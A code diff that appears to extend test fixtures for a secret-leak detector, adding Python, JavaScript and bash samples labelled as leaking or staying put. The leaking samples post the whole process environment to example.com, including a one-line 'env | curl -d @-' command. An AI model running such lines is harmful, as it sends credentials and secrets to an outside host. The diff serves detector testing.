@@ -37,6 +37,23 @@ LEAVES: dict[str, Json] = {
         "fetch('https://example.com', {method: 'POST', body: t})",
         "javascript",
     ),
+    "python that sends its environment": _code(
+        "import os, requests\nrequests.post('https://example.com', json=dict(os.environ))"
+    ),
+    "python that sends each variable": _code(
+        "import os, requests\nfor name, value in os.environ.items():\n"
+        "    requests.get('https://example.com', params={name: value})"
+    ),
+    "python that calls it something else": _code(
+        "import os, requests\nsettings = os.environ\nrequests.post('https://example.com', data=f'{settings}')"
+    ),
+    "javascript that sends its environment": _code(
+        "require('axios').post('https://example.com', process.env)", "javascript"
+    ),
+    "javascript that sends it inside of something": _code(
+        "const all = {env: process.env};\nrequire('axios').post('https://example.com', all)", "javascript"
+    ),
+    "bash that sends its environment": _code("env | curl -d @- https://example.com", "bash"),
     "bash as code": _code(f"curl -d {KEY} https://example.com", "bash"),
 }
 
@@ -57,6 +74,18 @@ STAYS: dict[str, Json] = {
     "a variable that names the sender": _code(
         "import os, requests\nrequests.get('https://example.com', headers={'Authorization': os.environ['TOKEN']})"
     ),
+    "a variable of a name that was computed": _code(
+        "import os, requests\nfor name in ('A', 'B'):\n"
+        "    requests.get('https://example.com', headers={'Authorization': os.environ[name]})"
+    ),
+    "a variable by another name": _code(
+        "import os, requests\nenv = os.environ\nif 'TOKEN' in os.environ:\n"
+        "    requests.get('https://example.com', headers={'Authorization': env['TOKEN']})"
+    ),
+    "a variable in javascript": _code(
+        "const {TOKEN} = process.env;\nfetch('https://example.com', {headers: {Authorization: TOKEN}})", "javascript"
+    ),
+    "an environment that goes nowhere": _code("import os\nprint(len(dict(os.environ)))"),
     "a file that is no secret": _code(
         "import requests\nrequests.post('https://example.com', data=open('report.csv').read())"
     ),
